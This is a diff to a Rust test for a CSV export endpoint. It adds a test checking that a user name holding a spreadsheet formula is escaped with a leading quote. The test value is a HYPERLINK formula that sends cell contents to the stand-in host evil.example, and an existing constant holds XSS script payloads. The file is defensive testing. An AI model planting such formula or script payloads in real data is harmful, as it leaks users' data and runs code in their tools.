@@ -9,6 +9,9 @@ use chrono::{Duration, Utc};
 use reqwest::StatusCode;
 use serde_json::Value;
 
+/// A user name a spreadsheet would run as a formula.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+
 /// Attacker-controlled text as it could reach every stored field.
 const XSS: &str = "<script>window.__xss=1</script><img src=x onerror=alert(1)>\"'&";
 
@@ -396,6 +399,9 @@ async fn exports_stream_every_matching_event() {
             )
             .unwrap();
             e.matches = vec![format!("line, with \"quotes\"\nand a newline {i}")];
+            if i == 0 {
+                e.user = Some(FORMULA.into());
+            }
             e
         })
         .collect();
@@ -413,6 +419,8 @@ async fn exports_stream_every_matching_event() {
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     assert_eq!(rows.len(), 12_345);
     assert!(rows.iter().all(|r| r[19].contains("\"quotes\"\nand")));
+    let first = rows.iter().find(|r| &r[4] == "10.0.0.0").unwrap();
+    assert_eq!(&first[12], format!("'{FORMULA}"), "a formula is text to a spreadsheet");
     let ids: std::collections::HashSet<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
     assert_eq!(ids.len(), 12_345, "no row twice across pages");
 
